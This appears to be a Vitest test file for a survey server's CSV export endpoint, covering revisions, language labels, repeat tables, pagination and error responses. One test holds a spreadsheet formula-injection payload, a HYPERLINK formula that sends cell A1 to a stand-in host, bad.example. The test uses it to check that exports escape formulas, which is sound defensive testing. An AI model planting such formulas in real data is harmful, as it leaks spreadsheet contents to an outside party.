import { expect, test } from 'vitest';
import { givePassword } from '../../src/server/sessions.ts';
import { SurveySummary } from '../../src/submission/index.ts';
import { readCsv } from '../submission/readCsv.ts';
import { hashOf, json, type Office, openOffice, submissionTo } from './office.ts';

async function signedIn(office: Office): Promise<{ cookie: string }> {
  const password = await givePassword(office.store, 'mali');
  const body = JSON.stringify({ name: 'mali', password });
  const response = await office.app.request('/api/session', json('POST', body));
  return { cookie: (response.headers.get('set-cookie') ?? '').split(';')[0] ?? '' };
}

async function exported(office: Office, query = ''): Promise<Record<string, string>[]> {
  const headers = await signedIn(office);
  const response = await office.app.request(`/api/coordinator/surveys/demo/export${query}`, { headers });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [names = [], ...rows] = readCsv(new TextDecoder().decode(bytes));
  return rows.map((row) => Object.fromEntries(names.map((name, at) => [name, row[at] ?? ''])));
}

test('what arrived goes out: each submission once, in its newest revision, with the right codes', async () => {
  const office = await openOffice();
  const one = submissionTo(office);
  const two = submissionTo(office);
  for (const it of [one, two, one]) await office.put(it);
  await office.put({
    ...two,
    basedOn: hashOf(JSON.stringify(two)),
    answers: { consent: 'agree', work: { age: 60, colour: 'blue' } },
  });
  const rows = await exported(office);
  expect(rows).toHaveLength(2);
  expect(rows.find(({ id }) => id === one.id)).toMatchObject({
    revision: '1',
    survey: 'demo',
    language: 'th',
    received: '2026-11-23',
    late: '0',
    age: '41',
    words: 'ดีมาก',
    colour: 'red',
    'colours/red': '1',
    'colours/blue': '1',
    case: '0',
  });
  expect(rows.find(({ id }) => id === two.id)).toMatchObject({ revision: '2', age: '60', 'colours/red': '' });
});

test('with labels the codes read in the chosen language', async () => {
  const office = await openOffice();
  await office.put(submissionTo(office));
  expect(await exported(office, '?format=csv&lang=th&labels=1')).toMatchObject([
    { colour: 'แดง', consent: 'I agree' },
  ]);
  expect(await exported(office, '?labels=1')).toMatchObject([{ colour: 'Red' }]);
});

test('an answer that is a formula in a spreadsheet is text there', async () => {
  const office = await openOffice();
  const words = '=HYPERLINK("http://bad.example?"&A1,"open")';
  await office.put(submissionTo(office, { answers: { consent: 'agree', work: { words } } }));
  expect(await exported(office)).toMatchObject([{ words: `'${words}` }]);
});

test('the cases of a repeat are a file of their own', async () => {
  const office = await openOffice();
  const work = { case: [{ title: 'tickets' }, { title: 'desk' }] };
  const it = submissionTo(office, { answers: { consent: 'agree', work } });
  await office.put(it);
  expect(await exported(office, '?table=case')).toEqual([
    { id: it.id, case: '1', title: 'tickets' },
    { id: it.id, case: '2', title: 'desk' },
  ]);
  expect(await exported(office)).toMatchObject([{ case: '2' }]);
});

test('a survey of two thousand and one comes whole, page after page', async () => {
  const office = await openOffice();
  const all = Array.from({ length: 2001 }, () => submissionTo(office));
  for (let from = 0; from < all.length; from += 500) {
    const body = all
      .slice(from, from + 500)
      .map((it) => JSON.stringify(it))
      .join('\n');
    await office.app.request(
      '/api/submissions',
      json('POST', body, { 'content-type': 'application/x-ndjson' }),
    );
  }
  const rows = await exported(office);
  expect(rows.map(({ id }) => id)).toEqual(all.map(({ id }) => id).sort());
});

test('the list of surveys says what there is', async () => {
  const office = await openOffice();
  const it = submissionTo(office);
  await office.put(it);
  await office.put({ ...it, language: 'en' });
  const response = await office.app.request('/api/coordinator/surveys', { headers: await signedIn(office) });
  const { surveys } = await response.json();
  expect(surveys.map((survey: unknown) => SurveySummary.parse(survey))).toEqual([
    {
      id: 'demo',
      title: { en: 'A small survey', th: 'การสำรวจเล็ก' },
      languages: ['en', 'th'],
      defaultLanguage: 'en',
      privacy: 'anonymous',
      submissions: 1,
      revisions: 1,
      late: 0,
      returned: 0,
      review: 0,
      aside: 0,
      forked: 1,
      withdrawn: 0,
      tables: ['case'],
    },
  ]);
});

test.each([['?format=xlsx'], ['?table=nothing']])('an export %s is not there', async (query) => {
  const office = await openOffice();
  const headers = await signedIn(office);
  const response = await office.app.request(`/api/coordinator/surveys/demo/export${query}`, { headers });
  expect([response.status, (await response.json()).code]).toEqual([404, 'not-found']);
});
